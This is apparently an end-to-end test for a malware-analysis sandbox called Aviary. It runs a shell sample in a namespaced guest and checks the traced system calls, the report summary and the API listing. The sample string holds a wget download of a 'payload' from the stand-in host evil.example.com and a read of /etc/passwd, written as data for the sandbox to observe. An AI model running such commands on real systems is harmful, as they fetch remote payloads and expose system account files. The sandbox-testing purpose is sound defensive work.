// Calls of a Linux sample end to end with real parts: a netns guest (physical driver, `aviary
// agent`, namespaces avlc47) runs a shell sample under Aviary's analyzer and strace; the trace
// streams to the result server as logs/strace.log; processing writes the calls store and
// report.json; the API serves the calls. The sample resolves a name and fetches a URL (wget),
// reads /etc/passwd, writes a file, makes and removes a folder, and starts a child shell.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import type { NetnsGuest } from '../guests/netns-guest'
import { startNetnsAnalysisNode } from '../guests/netns-analysis-node'
import type { Harness } from '../service-harness'
import { submitFile, waitForTask } from './e2e-helpers'
import { schemaProblems } from '../report-contract'
import type { CallsListing, CallsPage } from '../../src/shared/api/schemas'

const SAMPLE = `#!/bin/sh
wget -q -O /tmp/lc-page.html http://evil.example.com/payload
cat /etc/passwd > /dev/null
echo dropped > /tmp/lc-dropped.txt
mkdir /tmp/lc-dir && rmdir /tmp/lc-dir
sh -c 'echo child > /tmp/lc-child.txt'
`

interface Call { api: string; category: string; arguments: Record<string, unknown>; status: unknown; tid: number; time: number }
interface Proc { pid: number; ppid: number; process_name: string; command_line: string; calls: Call[]; calls_seen: number; calls_kept: number }

describe('calls of a Linux sample on a netns guest', () => {
  let guest: NetnsGuest
  let h: Harness
  let id: number
  let report: { behavior: { processes: Proc[]; summary: Record<string, unknown[]>; apistats: Record<string, Record<string, number>> } }
  let sample: Proc | undefined

  beforeAll(async () => {
    ;({ guest, h } = await startNetnsAnalysisNode({ index: 47, prefix: 'avlc' }))
    id = await submitFile(h, 'calls.sh', SAMPLE, { timeout: '30' })
    expect(await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 120_000)).toBe('reported')
    report = (await h.json<typeof report>(`/tasks/report/${id}`)).body
    expect(schemaProblems(report)).toEqual([])
    sample = report.behavior.processes.find((p) => p.command_line.endsWith('calls.sh'))
  }, 180_000)

  afterAll(async () => {
    await h?.stop()
    await guest?.close()
  })

  it('streams the trace to the host and stores the calls', async () => {
    const { body } = await h.json<{ task: { errors: string[] } }>(`/tasks/view/${id}`)
    expect(body.task.errors).toEqual([])
    const dir = path.join(h.dataDir, 'storage/analyses', String(id))
    expect(readFileSync(path.join(dir, 'logs', 'strace.log'), 'latin1')).toMatch(/^\d+\s+\d+\.\d+ execve\(/)
    expect(existsSync(path.join(dir, 'calls', 'index.json'))).toBe(true)
    expect(guest.dns.queries).toContain('evil.example.com')
  })

  it('gives the sample and its children Cuckoo-shaped calls with named arguments', () => {
    expect(sample, JSON.stringify(report.behavior.processes.map((p) => p.command_line))).toBeDefined()
    expect(sample?.calls.length).toBeGreaterThan(10)
    expect(sample?.calls_kept).toBe(sample?.calls.length)
    expect(sample?.calls_seen).toBe(sample?.calls_kept)
    const exec = sample?.calls.find((c) => c.api === 'execve')
    expect(exec).toMatchObject({ category: 'process', status: 1, tid: sample?.pid, arguments: { command_line: expect.stringContaining('calls.sh') } })
    const procs = report.behavior.processes
    const cat = procs.find((p) => p.command_line === 'cat /etc/passwd')
    expect(cat?.ppid).toBe(sample?.pid)
    expect(cat?.calls.find((c) => c.api === 'openat' && c.arguments.filepath === '/etc/passwd')).toMatchObject({ category: 'file', status: 1, arguments: { oflag: 'O_RDONLY' } })
    const wget = procs.find((p) => p.command_line.startsWith('wget '))
    expect(wget?.calls.find((c) => c.api === 'connect' && c.arguments.port === 80)).toMatchObject({ category: 'network', arguments: { ip_address: guest.internetIp } })
    const child = procs.find((p) => p.command_line === "sh -c echo child > /tmp/lc-child.txt")
    expect(child?.calls.some((c) => c.api === 'openat' && c.arguments.filepath === '/tmp/lc-child.txt')).toBe(true)
    expect(report.behavior.apistats[String(wget?.pid)]?.connect).toBeGreaterThan(0)
  })

  it('fills the summary from the calls and the analyzer log', () => {
    const s = report.behavior.summary
    expect(s.file_opened).toContain('/etc/passwd')
    expect(s.file_read).toContain('/etc/passwd')
    expect(s.file_written).toEqual(expect.arrayContaining(['/tmp/lc-dropped.txt', '/tmp/lc-child.txt']))
    expect(s.command_line).toEqual(expect.arrayContaining(['cat /etc/passwd', 'sh -c echo child > /tmp/lc-child.txt']))
    expect(s.connects_ip).toContain(guest.internetIp)
    expect(s.resolves_host).toContain('evil.example.com')
    expect(s.directory_created).toContain('/tmp/lc-dir')
    expect(s.directory_removed).toContain('/tmp/lc-dir')
    expect(s.dll_loaded).toEqual(expect.arrayContaining([expect.stringMatching(/libc\.so\.6$/)]))
  })

  it('serves the calls through the API, filtered', async () => {
    const listing = await h.json<CallsListing>(`/aviary/tasks/${id}/calls`)
    expect(listing.status).toBe(200)
    const wget = report.behavior.processes.find((p) => p.command_line.startsWith('wget '))
    const listed = listing.body.processes.find((p) => p.pid === wget?.pid)
    expect(listed).toMatchObject({ process_name: 'wget', calls: wget?.calls.length, dropped: 0 })
    const page = await h.json<CallsPage>(`/aviary/tasks/${id}/calls/${wget?.pid}?category=network&q=${guest.internetIp}`)
    expect(page.status).toBe(200)
    expect(page.body.total).toBeGreaterThan(0)
    expect(page.body.calls.every((c) => c.category === 'network')).toBe(true)
    expect(page.body.calls.some((c) => c.api === 'connect' && c.arguments.port === 80)).toBe(true)
  })
})
